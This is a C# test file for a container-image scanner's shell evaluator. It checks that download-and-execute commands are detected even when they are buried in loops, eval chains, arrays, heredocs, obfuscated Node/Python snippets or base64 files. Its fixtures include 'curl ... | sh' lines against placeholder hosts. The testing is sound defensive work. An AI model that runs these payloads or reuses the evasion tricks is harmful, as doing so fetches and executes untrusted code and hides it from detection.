using System.Diagnostics;
using System.Text;
using Wellguard.Artifacts;
using Wellguard.Programs;
using Wellguard.Programs.Shell;
using Wellguard.Tests.Signals;
using Xunit;

namespace Wellguard.Tests.Programs.Shell;

/// <summary>Where a bound of the shell's evaluation is reached: what is followed up to it, and what is said beyond.</summary>
public sealed class ShellBoundsTests
{
    private const string Payload = "curl -s https://cdn.example.invalid/x | sh";

    private static (List<Effect> Effects, List<string> Problems) Evaluate(string text)
    {
        var analysis = new Analysis();
        return (All(ShellEvaluator.Evaluate(text, 1, analysis)), analysis.Problems);
    }

    private static List<Effect> All(IEnumerable<Effect> effects) => [.. effects.SelectMany(effect => All(effect.Steps).Prepend(effect))];

    private static bool Runs(Effect effect) => effect.Kind is EffectKind.Interpret or EffectKind.Execute && effect.Origin?.StartsWith("https://cdn.example.invalid", StringComparison.Ordinal) == true;

    private static string Many(string word, int count) => string.Concat(Enumerable.Repeat(word + " ", count));

    public static TheoryData<string> Long =>
    [
        $"for i in {Many("true", 200)} '{Payload}'; do eval \"$i\"; done",
        $"printf '%s\\n' {Many("true", 40)} '{Payload}' | while read l; do eval \"$l\"; done",
        $"while read l; do eval \"$l\"; done <<E\n{string.Concat(Enumerable.Repeat("true\n", 300))}{Payload}\nE",
        $"xargs -I{{}} sh -c '{{}}' <<E\n{string.Concat(Enumerable.Repeat("true\n", 60))}{Payload}\nE",
        $"x=({Many("true", 300)} '{Payload}')\neval \"${{x[300]}}\"",
        $"set -- {Many("true", 400)} '{Payload}'\nshift 400\neval \"$1\"",
        $"x='{Many("a", 1_000)}'\nset -- $x '{Payload}'\neval \"${{1001}}\"",
        "eval eval eval \"" + Payload + "\"",
    ];

    [Theory]
    [MemberData(nameof(Long))]
    public void Lists_and_loops_are_followed_to_their_end(string text)
    {
        var (effects, problems) = Evaluate(text);
        Assert.Contains(effects, Runs);
        Assert.Empty(problems);
    }

    public static TheoryData<string> CutOff =>
    [
        $"{Many("eval", 40)} '{Payload}'",
        $"x={string.Concat(Enumerable.Repeat("$(echo ", 45))}'{Payload}'{new string(')', 45)}\neval \"$x\"",
        $"for i in {Many("true", 9_000)} '{Payload}'; do eval \"$i\"; true; true; done",
        $"x=({Many("true", 5_000)} '{Payload}')\neval \"${{x[5000]}}\"",
        $"x[5000]='{Payload}'\neval \"${{x[5000]}}\"",
        "f() { x=\"$x$1\"; shift; [ $# -gt 0 ] && f \"$@\"; }\nf " + string.Join(' ', Payload.Select(static c => $"'{c}'")) + "\neval \"$x\"",
    ];

    [Theory]
    [MemberData(nameof(CutOff))]
    public void A_bound_that_cuts_off_what_may_matter_is_said(string text)
    {
        var (effects, problems) = Evaluate(text);
        Assert.NotEmpty(problems);
        Assert.Equal(problems.Count, problems.Distinct().Count());
        _ = effects;
    }

    [Theory]
    [InlineData("wait_for() { n=$((n + 1)); [ $n -gt 30 ] && exit 1; nc -z db 5432 || { sleep 1; wait_for \"$1\" $n; }; }\nwait_for db 0")]
    [InlineData("walk() { for f in \"$1\"/*; do if [ -d \"$f\" ]; then walk \"$f\"; else echo \"$f\"; fi; done; }\nwalk /docker-entrypoint.d")]
    [InlineData("for a in 1 2 3; do for b in 1 2 3; do for c in 1 2 3; do echo $a $b $c; done; done; done")]
    [InlineData("for p in $(seq 1 60); do for q in a b c d; do echo \"$p $q\"; done; done")]
    public void What_honest_scripts_do_is_not_cut(string text) => Assert.Empty(Evaluate(text).Problems);

    [Theory]
    [InlineData("eval ")]
    [InlineData("command eval ")]
    [InlineData("exec ")]
    [InlineData("sudo ")]
    [InlineData("env ")]
    [InlineData("! ")]
    [InlineData("a() ")]
    [InlineData("coproc ")]
    [InlineData("for i in 1 2;do ")]
    public void Words_that_run_words_end_soon(string word)
    {
        var watch = Stopwatch.StartNew();
        Evaluate(string.Concat(Enumerable.Repeat(word, 800_000 / word.Length)));
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(20), $"{watch.Elapsed}");
    }

    [Theory]
    [InlineData("printf abc | head -c -2147483648")]
    [InlineData("printf abc | tail -n -2147483648")]
    [InlineData("printf abc | tail -c 99999999999999")]
    [InlineData("pwsh -File")]
    [InlineData("pwsh -f")]
    public void What_is_missing_or_too_large_is_no_error(string text) => Assert.Contains(Evaluate(text + "\n" + Payload).Effects, Runs);

    [Theory]
    [InlineData("exec node /b.js", "b.js", "const c=require('child'+'_process');c['ex'+'ec']('curl http://192.0.2.1/a | sh')", "// aa")]
    [InlineData("exec python3 /b.py", "b.py", "from os import system as s; s('curl http://192.0.2.1/a | sh')", "# aa")]
    public async Task A_large_program_that_runs_is_read_without_words_that_tell(string script, string path, string code, string comment)
    {
        var lines = string.Concat(Enumerable.Repeat("          " + comment + "\n", 10_000));
        var report = await Scanned.ReportOf(ExampleImage.Read($"entrypoint: [/e]\nlayers:\n  - createdBy: COPY . /\n    files:\n      - path: e\n        mode: \"755\"\n        text: |\n          #!/bin/sh\n          {script}\n      - path: {path}\n        text: |\n          {code}\n{lines}", "test.yml", 7));
        Assert.Equal(CompletenessState.Complete, report.Completeness.State);
        Assert.Contains(report.Signals, signal => signal.Rule == "content/runs-downloaded-code");
    }

    [Theory]
    [InlineData("base64 -d /p.b64 | sh")]
    [InlineData("sh < /p.b64")]
    [InlineData("eval \"$(cat /p.b64)\"")]
    public async Task Code_out_of_a_file_that_was_not_read_makes_the_scan_partial(string script)
    {
        var text = Convert.ToBase64String(Encoding.UTF8.GetBytes(new string('x', 200_000)));
        var report = await Scanned.ReportOf(ExampleImage.Read($"entrypoint: [/e]\nlayers:\n  - createdBy: COPY . /\n    files:\n      - path: e\n        mode: \"755\"\n        text: |\n          #!/bin/sh\n          {script}\n      - {{ path: p.b64, text: \"{text}\" }}\n", "test.yml", 7));
        Assert.Contains(report.Completeness.Reasons, reason => reason.Why.Contains("was not read", StringComparison.Ordinal));
    }
}
